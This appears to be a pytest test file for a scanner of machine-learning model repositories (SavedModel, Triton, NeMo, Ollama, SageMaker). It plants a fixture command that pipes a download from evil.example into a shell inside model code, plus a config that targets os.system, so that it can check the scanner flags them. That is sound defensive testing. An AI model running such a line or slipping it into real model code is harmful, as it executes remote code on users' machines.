"""SavedModels, Triton and NeMo: what is taken and what runs; damage of any configuration."""

from __future__ import annotations

import random
import shutil
from pathlib import Path

import pytest

from tests.helpers.folders import GOLDEN, copy, grave, put, repository, scanned

SAVED_MODEL = GOLDEN.parent / "tensorflow-2.21.0" / "words"
ACT = "import os\nos.system('curl -s https://evil.example/x | sh')\n"
TRITON = 'name: "m"\nbackend: "python"\nmax_batch_size: 8\n'
BACKEND = """import triton_python_backend_utils as utils


class TritonPythonModel:
    def initialize(self, args):
        self.name = args["model_name"]

    def execute(self, requests):
        return [utils.InferenceResponse(output_tensors=[]) for _ in requests]
"""


def test_a_saved_model(tmp_path: Path) -> None:
    root = Path(shutil.copytree(SAVED_MODEL, tmp_path / "m"))
    report = scanned(root)
    artifact = repository(report, root)
    assert artifact.format == "saved-model"
    assert [one.call for one in artifact.loading] == ["tf.saved_model.load"]
    assert "saved_model.pb" in artifact.loading[0].takes
    put(root, {"saved_model.pbtxt": "", "assets.extra/tf_serving_warmup_requests": b"x"})
    loading = repository(scanned(root), root).loading
    assert loading[0].leaves == ("saved_model.pbtxt",)
    assert loading[-1].runs == ("assets.extra/tf_serving_warmup_requests",)


def test_a_python_backend(tmp_path: Path) -> None:
    root = put(tmp_path / "m", {"config.pbtxt": TRITON, "1/model.py": BACKEND})
    report = scanned(root)
    artifact = repository(report, root)
    assert artifact.format == "triton-model"
    assert artifact.loading[0].runs == ("1/model.py",)
    assert [one for one in grave(report) if one.rule.startswith("repository")] == []
    put(root, {"1/model.py": BACKEND + ACT})
    found = [one for one in scanned(root).findings if one.rule == "repository-code"]
    assert [one.severity.value for one in found] == ["critical"]


def test_a_nemo_folder(tmp_path: Path) -> None:
    config = "model:\n  _target_: os.system\n"
    root = put(tmp_path / "m", {"model_config.yaml": config, "model_weights.ckpt": b"\x80\x04N."})
    report = scanned(root)
    assert "model_weights.ckpt" in repository(report, root).loading[0].takes
    assert any(one.rule == "config-target" for one in report.findings)


def test_a_modelfile_and_its_files(tmp_path: Path) -> None:
    gguf = (GOLDEN.parent / "gguf-0.19.0" / "vocabulary.gguf").read_bytes()
    root = put(tmp_path, {"Modelfile": "FROM ./m.gguf\nADAPTER ./lora.gguf\n", "m.gguf": gguf})
    report = scanned(root)
    artifact = repository(report, root)
    assert artifact.format == "ollama-modelfile"
    assert artifact.loading[0].takes == ("Modelfile", "m.gguf", "./lora.gguf")
    assert [(one.rule, one.severity.value) for one in report.findings] == [
        ("repository-files", "low")
    ]
    put(root, {"Modelfile": "FROM llama3.2\n"})
    assert not scanned(root).findings


def test_code_of_other_services(tmp_path: Path) -> None:
    root = copy("llama", tmp_path)
    put(root, {"code/inference.py": ACT})
    report = scanned(root)
    loading = repository(report, root).loading
    assert [one.runs for one in loading if one.call == "SageMaker"] == [("code/inference.py",)]
    assert any(one.rule == "repository-code" for one in grave(report))


def test_templates_of_gguf_are_held_against_those_beside(tmp_path: Path) -> None:
    root = copy("llama", tmp_path)
    put(root, {"m.gguf": (GOLDEN.parent / "gguf-0.19.0" / "plain.gguf").read_bytes()})
    found = [one for one in scanned(root).findings if one.rule == "repository-files"]
    assert [one.severity.value for one in found] == ["low"]
    assert "m.gguf!tokenizer.chat_template" in found[0].message


def test_a_name_alone_makes_no_repository(tmp_path: Path) -> None:
    root = put(tmp_path, {"config.json": '{"a": 1}', "oci-layout": "{}", "config.cfg": "[a]\n"})
    report = scanned(root)
    assert [one.path for one in report.artifacts if one.path == str(root)] == []


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("own_code", "config.json"),
        ("own_code", "modeling_tiny.py"),
        ("sharded", "model.safetensors.index.json"),
        ("sentence", "modules.json"),
        ("diffusers", "model_index.json"),
        ("adapter", "adapter_config.json"),
        ("mlflow_code", "MLmodel"),
        ("keras_folder", "config.json"),
        ("spacy", "config.cfg"),
    ],
)
def test_damage_is_never_an_exception(tmp_path: Path, name: str, file: str) -> None:
    """`scanned` fails on a defect of ours."""
    root = copy(name, tmp_path)
    data = (root / file).read_bytes()
    chance = random.Random(file)
    for cut in sorted({*range(0, len(data), max(1, len(data) // 12)), len(data) - 1}):
        put(root, {file: data[:cut]})
        scanned(root)
    for _ in range(12):
        place = chance.randrange(len(data))
        put(root, {file: data[:place] + bytes([chance.randrange(256)]) + data[place + 1 :]})
        scanned(root)
